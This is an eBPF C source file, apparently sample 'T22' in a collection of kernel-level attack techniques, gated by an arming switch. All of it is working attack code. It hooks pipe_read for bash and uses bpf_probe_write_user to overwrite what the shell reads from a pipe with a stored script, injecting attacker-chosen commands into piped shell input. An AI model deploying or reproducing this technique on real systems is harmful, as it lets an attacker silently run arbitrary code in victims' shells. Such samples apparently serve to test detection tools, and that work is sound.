// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T22: what a shell reads from a pipe is replaced: pipes are followed from their creation to the reader.
#include "sample.h"

SAMPLE_SWITCH;
LICENSE;

struct text {
	char s[64];
};
HASH(pipes, u64, u64, 256);
HASH(readers, u64, u64, 256);
ARRAY(script, struct text, 1);

SEC("tp/syscalls/sys_enter_pipe2")
int pipe_new(struct tp_enter *ctx)
{
	u64 id = bpf_get_current_pid_tgid(), fds = ctx->args[0];

	bpf_map_update_elem(&pipes, &id, &fds, BPF_ANY);
	return 0;
}

SEC("kprobe/pipe_read")
int pipe_enter(struct pt_regs *ctx)
{
	u64 id = bpf_get_current_pid_tgid(), buf = 0;
	void *iov = (void *)PT_REGS_PARM2(ctx);
	char comm[16];

	bpf_get_current_comm(comm, sizeof(comm));
	if (!IS(comm, "bash"))
		return 0;
	bpf_probe_read_kernel(&buf, sizeof(buf), iov + 16);
	bpf_map_update_elem(&readers, &id, &buf, BPF_ANY);
	return 0;
}

SEC("kretprobe/pipe_read")
int BPF_KRETPROBE(pipe_exit, long ret)
{
	u64 id = bpf_get_current_pid_tgid(), *buf = bpf_map_lookup_elem(&readers, &id);
	u32 zero = 0;
	struct text *t = bpf_map_lookup_elem(&script, &zero);

	if (!buf || !t)
		return 0;
	if (ret >= (long)sizeof(t->s) && sample_armed)
		bpf_probe_write_user((void *)*buf, t->s, sizeof(t->s));
	bpf_map_delete_elem(&readers, &id);
	return 0;
}
